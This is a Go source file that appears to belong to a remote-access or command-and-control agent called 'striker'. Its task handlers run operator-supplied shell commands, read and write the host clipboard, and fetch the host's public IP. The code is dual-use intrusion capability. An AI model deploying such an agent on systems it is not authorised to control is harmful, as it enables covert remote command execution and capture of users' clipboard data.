package executor

import (
	"context"
	"errors"
	"strings"

	"striker/internal/capability"
	serrors "striker/internal/errors"
	"striker/internal/session"
	"striker/internal/task"
	"striker/util"
)

// system runs a command through the interpreter.  The task succeeds as
// soon as the interpreter ran, whatever its exit status: the operator
// reads the output to judge the outcome.
func (e *Executor) system(ctx context.Context, sess *session.Session, t *task.Task) (string, bool) {
	cmd, ok := stringParam(t, "cmd")
	if !ok {
		return "No command given!", false
	}

	out := util.NewCappedBuffer(e.maxResultSize)
	ran, err := capability.Shell(ctx, sess.WorkDir(), cmd, out)
	if !ran {
		return "Error running shell command: " + err.Error(), false
	}
	if err != nil {
		e.logger.Debug("task %s: %v", t.ID(), err)
	}
	if out.Truncated() {
		e.logger.Verbose("task %s: output truncated at %d bytes", t.ID(), e.maxResultSize)
	}
	return out.String(), true
}

func (e *Executor) clipRead(ctx context.Context, _ *session.Session, _ *task.Task) (string, bool) {
	text, err := e.caps.Clipboard.Read(ctx)
	if err != nil {
		return unsupportedOr(err, "Error reading clipboard: "), false
	}
	return text, true
}

func (e *Executor) clipWrite(ctx context.Context, _ *session.Session, t *task.Task) (string, bool) {
	text, ok := t.Params().String("text")
	if !ok {
		return "No text given!", false
	}
	if err := e.caps.Clipboard.Write(ctx, text); err != nil {
		return unsupportedOr(err, "Error writing clipboard: "), false
	}
	return "Clipboard updated!", true
}

// publicIP asks an external echo service for the host's public address.
func (e *Executor) publicIP(ctx context.Context, _ *session.Session, _ *task.Task) (string, bool) {
	if e.transport == nil {
		return "Not connected!", false
	}
	resp, err := e.transport.Get(ctx, e.publicIPURL)
	if err != nil {
		return "Error querying public IP: " + err.Error(), false
	}
	return strings.TrimSpace(string(resp.Body)), true
}

// unsupportedOr renders err as a result text, with a fixed text for
// facilities the platform lacks.
func unsupportedOr(err error, prefix string) string {
	if errors.Is(err, serrors.ErrUnsupported) {
		return "Not supported on this platform!"
	}
	return prefix + err.Error()
}
